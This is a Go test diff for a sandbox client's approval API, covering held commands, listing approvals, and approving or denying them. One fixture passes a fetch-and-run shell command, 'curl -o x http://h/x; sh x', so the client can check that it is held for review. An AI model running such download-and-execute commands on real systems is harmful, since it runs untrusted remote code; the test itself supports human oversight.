@@ -5,6 +5,7 @@ import (
 	"context"
 	"encoding/json"
 	"errors"
+	"fmt"
 	"io"
 	"net/http"
 	"net/http/httptest"
@@ -345,6 +346,68 @@ func TestRequests(t *testing.T) {
 			check: func(t *testing.T, got any) {
 				if e := got.(*client.Exec); e.ID != "e-2" || !e.Running() || e.Result != nil {
 					t.Errorf("exec = %+v", e)
+				}
+			},
+		},
+		{
+			name: "a held command is a HeldError",
+			call: func(ctx context.Context, c *client.Client) (any, error) {
+				e, err := c.Sandbox("sb-1").Exec(ctx, &client.ExecRequest{Argv: []string{"sh", "-c", "curl -o x http://h/x; sh x"}})
+				var held *client.HeldError
+				if !errors.As(err, &held) {
+					return nil, fmt.Errorf("exec = %+v, %v; want a *client.HeldError", e, err)
+				}
+				return held, nil
+			},
+			method: "POST", path: "/v1/sandboxes/sb-1/execs", ctype: "application/json",
+			wantBody: `{"argv": ["sh", "-c", "curl -o x http://h/x; sh x"], "wait": true}`,
+			status:   202, resp: `{"approval": {"id": "ap-1", "state": "pending", "sandbox_id": "sb-1", "argv": ["sh"],
+				"effects": [{"kind": "exec-fetched", "detail": "runs x, fetched from h", "commands": [0, 1], "hosts": ["h"]}],
+				"created_at": "2026-01-02T03:04:05Z", "expires_at": "2026-01-02T03:09:05Z"}}`,
+			check: func(t *testing.T, got any) {
+				h := got.(*client.HeldError)
+				if h.Approval.ID != "ap-1" || h.Approval.State != client.ApprovalPending || len(h.Approval.Effects) != 1 ||
+					!strings.Contains(h.Error(), "ap-1") || !strings.Contains(h.Error(), "runs x, fetched from h") {
+					t.Errorf("held = %+v (%v)", h.Approval, h)
+				}
+			},
+		},
+		{
+			name:   "list approvals",
+			call:   func(ctx context.Context, c *client.Client) (any, error) { return c.ListApprovals(ctx) },
+			method: "GET", path: "/v1/approvals",
+			status: 200, resp: `{"approvals": [{"id": "ap-1", "state": "pending", "argv": ["sh"], "effects": [], "created_at": "2026-01-02T03:04:05Z", "expires_at": "2026-01-02T03:09:05Z"}]}`,
+			check: func(t *testing.T, got any) {
+				if l := got.([]*client.Approval); len(l) != 1 || l[0].ID != "ap-1" || l[0].ExpiresAt.IsZero() {
+					t.Errorf("approvals = %+v", l)
+				}
+			},
+		},
+		{
+			name: "approve a held command",
+			call: func(ctx context.Context, c *client.Client) (any, error) {
+				return c.DecideApproval(ctx, "ap/1", true, "reviewed the script")
+			},
+			method: "POST", path: "/v1/approvals/ap%2F1", ctype: "application/json",
+			wantBody: `{"approve": true, "reason": "reviewed the script"}`,
+			status:   200, resp: `{"approval": {"id": "ap/1", "state": "approved", "argv": ["sh"], "effects": [], "created_at": "2026-01-02T03:04:05Z", "expires_at": "2026-01-02T03:09:05Z"},
+				"exec": {"id": "e-3", "sandbox_id": "sb-1", "state": "running", "argv": ["sh"]}}`,
+			check: func(t *testing.T, got any) {
+				if o := got.(*client.ApprovalOutcome); o.Approval.State != client.ApprovalApproved || o.Exec == nil || o.Exec.ID != "e-3" || o.Run != nil {
+					t.Errorf("outcome = %+v", o)
+				}
+			},
+		},
+		{
+			name: "deny sends approve false",
+			call: func(ctx context.Context, c *client.Client) (any, error) {
+				return c.DecideApproval(ctx, "ap-2", false, "")
+			},
+			method: "POST", path: "/v1/approvals/ap-2", ctype: "application/json", wantBody: `{"approve": false}`,
+			status: 200, resp: `{"approval": {"id": "ap-2", "state": "denied", "argv": ["sh"], "effects": [], "created_at": "2026-01-02T03:04:05Z", "expires_at": "2026-01-02T03:09:05Z"}}`,
+			check: func(t *testing.T, got any) {
+				if o := got.(*client.ApprovalOutcome); o.Approval.State != client.ApprovalDenied || o.Exec != nil || o.Run != nil {
+					t.Errorf("outcome = %+v", o)
 				}
 			},
 		},
